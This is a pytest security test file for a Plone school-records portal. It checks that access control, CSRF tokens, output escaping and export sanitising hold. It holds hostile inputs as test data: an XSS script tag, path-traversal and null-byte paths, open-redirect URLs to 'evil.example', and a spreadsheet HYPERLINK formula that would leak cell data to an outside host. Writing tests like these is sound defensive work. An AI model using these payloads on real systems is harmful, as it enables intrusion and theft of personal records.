"""Tries at the office over HTTP: each is refused or harmless, and changes nothing."""

from hcmedu.portal.cases import register
from hcmedu.portal.cases.model import About
from hcmedu.portal.cases.model import Answer
from hcmedu.portal.cases.model import NewCase
from hcmedu.portal.cases.model import State
from hcmedu.portal.cases.model import Step
from hcmedu.portal.cases.settings import settings
from hcmedu.portal.content.moments import now
from hcmedu.portal.editorial.groups import group_ids
from hcmedu.portal.submissions.files import checked_file
from hcmedu.portal.submissions.testing import errors_are_kept
from io import BytesIO
from openpyxl import load_workbook
from plone import api
from plone.app.testing import setRoles
from plone.app.testing import TEST_USER_ID

import csv
import io
import pytest
import re
import requests
import transaction


PASSWORD = "Truong-hoc-2026"
SECRET, PHONE = "Bí Mật Thị Riêng", "0987654321"
SCRIPT = "<script>alert('xss')</script>"
FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
PEOPLE = {
    "thuky": "tiep-nhan",
    "hieutruong": "truong-ban",
    "phongvien": "bien-tap-vien",
    "quantri": "quan-tri-vien",
    "sieuquantri": "Administrators",
    "nguoila": None,
}
#: Everybody who is not in charge of this school's cases.
OTHERS = [None, "nguoila", "phongvien", "quantri", "sieuquantri", "thukykhac"]
PAGES = [
    "@@hcmedu-cases",
    "@@hcmedu-cases-export",
    "@@hcmedu-case/{receipt}",
    "@@hcmedu-case/{receipt}/file/0",
    "@@hcmedu-case/{receipt}/receipt",
    "@@hcmedu-case/{receipt}/appointment",
    "@@hcmedu-case/{receipt}/export",
    "@@hcmedu-cases-report",
    "@@hcmedu-cases-report-print",
    "@@hcmedu-cases-report.xlsx",
    "@@hcmedu-cases-paper",
]


def new_case(name, **values):
    known = {"about": About.APPLICATION, "form": "uid", "form_title": "Đơn xin chuyển trường"}
    return NewCase(**{**known, "name": name, "phone": PHONE, **values})


class Web:
    """The school over HTTP; another school with a clerk of its own lies in it."""

    def __init__(self, portal, url):
        self.portal, self.url = portal, url
        for user, group in PEOPLE.items():
            api.user.create(email=f"{user}@truong.edu.vn", username=user, password=PASSWORD)
            if group:
                api.group.add_user(groupname=group, username=user)
        setRoles(portal, TEST_USER_ID, ["Manager"])
        self.school = api.content.create(portal, "School", "an-lac", title="THCS An Lạc")
        api.content.create(portal, "School", "binh-tan", title="THCS Bình Tân")
        api.user.create(email="khac@truong.edu.vn", username="thukykhac", password=PASSWORD)
        api.group.add_user(groupname=group_ids(self.school)["tiep-nhan"], username="thukykhac")
        day = now().date()
        scan = checked_file(BytesIO(b"%PDF-1.4\nhoc ba mat\n%%EOF\n"), "hoc-ba.pdf")
        self.receipt = register.take_in(portal, new_case(SECRET, due=day), [scan], "một")
        answers = (Answer("a", SCRIPT, SCRIPT),)
        nasty = new_case(SCRIPT, form_title=SCRIPT, email=SCRIPT, answers=answers)
        self.nasty = register.take_in(portal, nasty, [], "hai")
        step = Step(now(), State.HANDLING, SCRIPT, SCRIPT, SCRIPT)
        register.move(portal, self.nasty, step, State.RECEIVED)
        said = new_case(SCRIPT, about=About.FEEDBACK, answers=(Answer("b", "b", SCRIPT),))
        register.take_in(portal, said, [], "ba")
        register.take_in(portal, new_case(FORMULA), [], "bốn")
        foreign = [checked_file(BytesIO(b"%PDF-1.4\nhoc ba khac\n%%EOF\n"), "khac.pdf")]
        self.foreign = register.take_in(self.school, new_case(SECRET, due=day), foreign, "năm")
        transaction.commit()

    def ask(self, path, user=None, method="GET", **values):
        auth = (user, PASSWORD) if user else None
        path = path.format(receipt=self.receipt, nasty=self.nasty, foreign=self.foreign)
        url = f"{self.url}/{path}"
        # Only the path as it stands here: requests would mend '..'
        request = requests.Request(method, url, auth=auth, **values).prepare()
        request.url = url if not values.get("params") else request.url
        with requests.Session() as session:
            return session.send(request, allow_redirects=False, timeout=60)

    def token(self, user="thuky"):
        page = self.ask("@@hcmedu-case/{receipt}", user).text
        return re.search(r'name="_authenticator" value="(\w+)"', page)[1]

    def fresh(self):
        """The cases as they are in the database by now."""
        transaction.begin()
        return register.find(self.portal, self.receipt)


@pytest.fixture(scope="class")
def web(functional_portal_class, functional_class):
    host, port = functional_class["host"], functional_class["port"]
    portal = functional_portal_class
    return Web(portal, f"http://{host}:{port}/{portal.getId()}")


def is_refused(answer):
    """A login page is where anonymous people are sent."""
    sent_away = answer.status_code in (301, 302, 303) and "login" in answer.headers["Location"]
    return sent_away or answer.status_code in (401, 403, 404)


def tells_nothing(answer):
    text = answer.content.decode("utf-8", "replace")
    return SECRET not in text and PHONE not in text and "hoc ba mat" not in text


class TestAttacks:
    @pytest.mark.parametrize("page", PAGES)
    @pytest.mark.parametrize("user", OTHERS)
    def test_whoever_is_not_in_charge_sees_nothing(self, web, page, user):
        answer = web.ask(page, user)
        assert is_refused(answer) and tells_nothing(answer)

    @pytest.mark.parametrize("user", [*OTHERS[:3], "thuky", "thukykhac"])
    def test_settings_are_for_administrators_and_the_head(self, web, user):
        assert is_refused(web.ask("@@hcmedu-cases-settings", user))

    @pytest.mark.parametrize("user", ["hieutruong", "quantri", "sieuquantri"])
    def test_settings_stand_in_the_frame_of_the_control_panel(self, web, user):
        page = web.ask("@@hcmedu-cases-settings", user).text
        assert "@@overview-controlpanel" in page and "form.widgets.months_ended" in page

    @pytest.mark.parametrize("user", ["thukykhac", "thuky"])
    @pytest.mark.parametrize("kind", ["", "/file/0", "/receipt"])
    def test_a_receipt_leads_nowhere_in_another_school(self, web, user, kind):
        place, receipt = ("an-lac/", web.receipt) if user == "thukykhac" else ("", web.foreign)
        answer = web.ask(f"{place}@@hcmedu-case/{receipt}{kind}", user)
        assert answer.status_code == 404
        assert "Không có hồ sơ với mã biên nhận này" in answer.text
        assert "@@hcmedu-cases" in answer.text and tells_nothing(answer)

    @pytest.mark.parametrize("part", ["file/99", "nothing", "a/b/c/d"])
    def test_what_is_not_there_is_told_within_the_layout(self, web, part):
        html = {"Accept": "text/html"}
        answer = web.ask(f"@@hcmedu-case/{web.receipt}/{part}", "thuky", headers=html)
        assert answer.status_code == 404 and 'id="portal-breadcrumbs"' in answer.text

    @pytest.mark.parametrize("page", PAGES)
    def test_no_clerk_sees_a_school_beside_his_own(self, web, page):
        answer = web.ask(f"binh-tan/{page}", "thukykhac")
        assert is_refused(answer) and tells_nothing(answer)

    @pytest.mark.parametrize(
        "path",
        [
            "@@hcmedu-case/000000000000",
            "@@hcmedu-case/{receipt}/file/1",
            "@@hcmedu-case/{receipt}/file/-1",
            "@@hcmedu-case/{receipt}/file/0x0",
            "@@hcmedu-case/{receipt}/file/%D9%A0",
            "@@hcmedu-case/{receipt}/file/99999999999999999999",
            "@@hcmedu-case/{receipt}/file",
            "@@hcmedu-case/{receipt}/file/0/0",
            "@@hcmedu-case/{receipt}/context",
            "@@hcmedu-case/{receipt}/case",
            "@@hcmedu-case/{receipt}/template",
            "@@hcmedu-case/{receipt}/receipt/1",
            "@@hcmedu-case/{receipt}/@@view",
            "@@hcmedu-case/{receipt}/++resource++x",
            "@@hcmedu-case/__class__",
            "@@hcmedu-case/..%2f..%2facl_users",
            "@@hcmedu-case/%00",
            "@@hcmedu-case/" + "A" * 3000,
            "@@hcmedu-case/portal_catalog",
            "@@hcmedu-case/{nasty}/appointment",
        ],
    )
    def test_paths_that_are_not_there(self, web, path):
        answer = web.ask(path, "thuky")
        assert answer.status_code == 400 or is_refused(answer)
        assert tells_nothing(answer) and "Traceback" not in answer.text

    @pytest.mark.parametrize("path", ["@@hcmedu-case/{receipt}", "@@hcmedu-case/{receipt}/export"])
    @pytest.mark.parametrize("token", ["", "0" * 40, "other"])
    def test_no_deed_without_the_token_of_the_page(self, web, path, token):
        token = web.token("hieutruong") if token == "other" else token
        data = {"action": "done", "was": "received", "_authenticator": token}
        assert web.ask(path, "thuky", "POST", data=data).status_code == 403
        assert web.fresh().row.state is State.RECEIVED

    @pytest.mark.parametrize("page", ["@@hcmedu-case/{receipt}", "@@hcmedu-cases-export"])
    def test_what_was_typed_comes_back_and_stands_in_no_log(self, web, page):
        data = {"action": "tell", "was": "received", "message": "Ý còn dở dang", "format": "csv"}
        data |= {"words": "Ý còn dở dang", "_authenticator": "0" * 40}
        with errors_are_kept():
            answer = web.ask(page, "thuky", "POST", data=data)
        assert answer.status_code == 403
        assert "bấm nút gửi lần nữa" in answer.text and "Ý còn dở dang" in answer.text
        web.fresh()
        assert not any("Ý còn" in str(e) for e in web.portal.error_log.getLogEntries())

    @pytest.mark.parametrize("token", ["", "0" * 40])
    def test_no_setting_without_the_token_of_the_page(self, web, token):
        names = {"months_ended": "1", "months_open": "1"}
        data = {f"form.widgets.{name}": value for name, value in names.items()}
        data |= {"form.buttons.save": "1", "_authenticator": token}
        answer = web.ask("@@hcmedu-cases-settings", "sieuquantri", "POST", data=data)
        assert answer.status_code == 403
        web.fresh()
        assert settings(web.portal).months_ended == 12

    @pytest.mark.parametrize("page", ["@@hcmedu-cases-export", "@@hcmedu-case/{receipt}/export"])
    def test_no_export_by_a_link(self, web, page):
        params = {"_authenticator": web.token(), "format": "csv"}
        assert web.ask(page, "thuky", params=params).status_code == 403

    @pytest.mark.parametrize("action", ["done", "refuse", "delete", "hand-over", "remark"])
    def test_a_link_changes_nothing(self, web, action):
        values = {"action": action, "was": "received", "message": "x", "note": "x", "reason": "x"}
        params = {**values, "colleague": "thuky", "_authenticator": web.token("hieutruong")}
        web.ask("@@hcmedu-case/{receipt}", "hieutruong", params=params)
        assert len(web.fresh().steps) == 1

    @pytest.mark.parametrize(
        "values",
        [
            {"action": "done", "was": "refused"},
            {"action": "done", "was": "nonsense"},
            {"action": "reopen", "was": "received", "note": "x"},
            {"action": "nonsense", "was": "received"},
            {"action": "__class__", "was": "received"},
            {"action": "refuse", "was": "received", "message": "  \u200b "},
            {"action": "remark", "was": "received", "note": "x" * 5000},
            {"action": "hand-over", "was": "received", "colleague": "phongvien"},
            {"action": "hand-over", "was": "received", "colleague": "thukykhac"},
            {"action": "delete", "reason": "x"},
            {"action": "insert", "sentence": SCRIPT},
            {"action:list": "done", "was": "received"},
            {"action": "done", "was:list": "received"},
            {"action": "remark", "was": "received", "note:int": "7"},
        ],
    )
    def test_forms_that_no_page_sends(self, web, values):
        data = {**values, "_authenticator": web.token()}
        answer = web.ask("@@hcmedu-case/{receipt}", "thuky", "POST", data=data)
        assert answer.status_code == 200 and SCRIPT not in answer.text
        case = web.fresh()
        assert (case.row.state, len(case.steps)) == (State.RECEIVED, 1)

    @pytest.mark.parametrize(
        "page",
        [
            "@@hcmedu-cases?state=all",
            "@@hcmedu-case/{nasty}",
            "@@hcmedu-case/{nasty}/receipt",
            "@@hcmedu-cases-report",
            "@@hcmedu-cases-report-print",
        ],
    )
    def test_a_script_is_a_text(self, web, page):
        answer = web.ask(page, "thuky")
        assert answer.status_code == 200
        assert SCRIPT not in answer.text and "&lt;script&gt;alert(" in answer.text

    @pytest.mark.parametrize("name", ["words", "since", "until", "state", "form", "sort", "go"])
    def test_a_script_in_the_filter_is_a_text(self, web, name):
        answer = web.ask("@@hcmedu-cases", "thuky", "POST", data={name: f'"{SCRIPT}'})
        assert answer.status_code in (200, 303) and SCRIPT not in answer.text

    @pytest.mark.parametrize("ending", ["csv", "xlsx"])
    def test_a_name_is_no_formula(self, web, ending):
        data = {"format": ending, "go": "state=all", "_authenticator": web.token()}
        answer = web.ask("@@hcmedu-cases-export", "thuky", "POST", data=data)
        if ending == "csv":
            cells = [c for row in csv.reader(io.StringIO(answer.content.decode())) for c in row]
            assert f"'{FORMULA}" in cells and FORMULA not in cells
        else:
            sheet = load_workbook(BytesIO(answer.content)).active
            found = [cell for row in sheet for cell in row if cell.value == FORMULA]
            assert [cell.data_type for cell in found] == ["s"]

    @pytest.mark.parametrize(
        "month",
        ["", "2026", "9999-99", "2026-13", "0000-01", "9999-12", "../..", "x" * 5000, "٢٠٢٦-٠١"],
    )
    @pytest.mark.parametrize("page", ["@@hcmedu-cases-report", "@@hcmedu-cases-report.xlsx"])
    def test_a_month_that_there_is_not_is_the_running_one(self, web, page, month):
        assert web.ask(page, "thuky", params={"month": month}).status_code == 200

    @pytest.mark.parametrize(
        "path",
        [
            "@search?SearchableText=Bí Mật",
            "@querystring-search?query=[]",
            "@types",
            "",
            "++api++/@search?fullobjects=1",
            "sitemap.xml.gz",
            "rss.xml",
            "@@search?SearchableText=Bí Mật",
            "@@ajax-search?SearchableText=Bí Mật",
            "@hcmedu-cases",
            "@@hcmedu-cases.json",
        ],
    )
    @pytest.mark.parametrize("user", [None, "sieuquantri"])
    def test_no_index_knows_of_them(self, web, path, user):
        answer = web.ask(path, user, headers={"Accept": "application/json"})
        text = answer.text
        assert PHONE not in text and web.receipt not in text
        assert not any(SECRET in part for part in text.split("SearchableText"))

    @pytest.mark.parametrize(
        "page",
        [
            "@@hcmedu-cases",
            "@@hcmedu-case/{receipt}",
            "@@hcmedu-case/{receipt}/file/0",
            "@@hcmedu-case/{receipt}/receipt",
            "@@hcmedu-cases-report",
        ],
    )
    def test_nothing_is_kept_on_the_way(self, web, page):
        answer = web.ask(page, "thuky")
        assert answer.status_code == 200
        assert "no-store" in answer.headers["Cache-Control"]
        assert "ETag" not in answer.headers

    def test_a_file_is_never_shown_in_the_portals_name(self, web):
        answer = web.ask("@@hcmedu-case/{receipt}/file/0", "thuky")
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert "sandbox" in answer.headers["Content-Security-Policy"]
        assert answer.headers["X-Content-Type-Options"] == "nosniff"

    @pytest.mark.parametrize("folder", ["a05", "gioi-thieu"])
    def test_a_role_in_a_folder_opens_no_list(self, web, folder):
        answer = web.ask(f"{folder}/@@hcmedu-cases", "phongvien")
        assert is_refused(answer) and tells_nothing(answer)

    def test_the_macro_of_the_papers_is_no_page(self, web):
        assert web.ask("@@hcmedu-cases-paper", "thuky").status_code == 404
        assert web.ask("@@hcmedu-case/{receipt}/receipt", "thuky").status_code == 200

    @pytest.mark.parametrize("came_from", ["http://evil.example/", "//evil.example/{site}/a05"])
    @pytest.mark.parametrize("user", ["thuky", "phongvien", "nguoila"])
    def test_a_login_leads_to_this_portal_alone(self, web, user, came_from):
        came_from = came_from.format(site=web.portal.getId())
        data = {"__ac_name": user, "__ac_password": PASSWORD, "came_from": came_from}
        answer = web.ask("login", method="POST", data={**data, "buttons.login": "1"})
        assert answer.status_code in (302, 303)
        assert answer.headers["Location"].startswith(web.url)

    @pytest.mark.parametrize("user", ["thuky", "phongvien", "nguoila"])
    def test_a_login_leads_to_the_page_that_one_came_for(self, web, user):
        came_from = f"{web.url}/sitemap?x=1"
        data = {"__ac_name": user, "__ac_password": PASSWORD, "came_from": came_from}
        answer = web.ask("login", method="POST", data={**data, "buttons.login": "1"})
        assert answer.headers["Location"] == came_from
